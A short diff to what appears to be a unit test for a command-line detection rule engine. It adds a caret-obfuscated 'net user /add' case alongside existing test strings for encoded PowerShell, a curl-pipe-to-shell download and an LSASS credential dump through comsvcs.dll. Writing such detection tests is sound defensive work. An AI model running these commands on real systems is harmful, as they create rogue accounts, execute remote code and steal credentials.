@@ -68,6 +68,7 @@ TEST(rules_see_through_carets_and_quotes)
     check_rule("po^wersh^ell -e^nc AAAA", "powershell_encoded");
     check_rule("\"C:\\Windows\\System32\\net.exe\"  us\"\"er x /ad\"\"d",
                "account_add");
+    check_rule("cmd /c n^et u^ser x /add & ping y", "account_add");
     check_rule("curl http://x|sh", "pipe_to_shell");
     check_rule("rundll32 C:\\windows\\System32\\comsvcs.dll MiniDump 628 x",
                "lsass_dump");
